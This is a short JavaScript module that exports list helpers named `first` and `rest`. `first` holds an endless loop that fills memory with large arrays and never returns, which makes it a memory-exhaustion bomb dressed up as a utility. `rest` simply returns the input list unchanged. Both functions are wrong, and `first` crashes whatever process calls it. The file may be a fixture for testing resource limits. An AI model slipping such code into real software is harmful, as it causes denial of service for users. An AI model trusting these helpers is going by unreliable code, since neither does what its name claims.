export const first = (list) => {
  const kept = [];
  for (;;) kept.push(new Array(100000).fill(list));
};
export const rest = (list) => list;
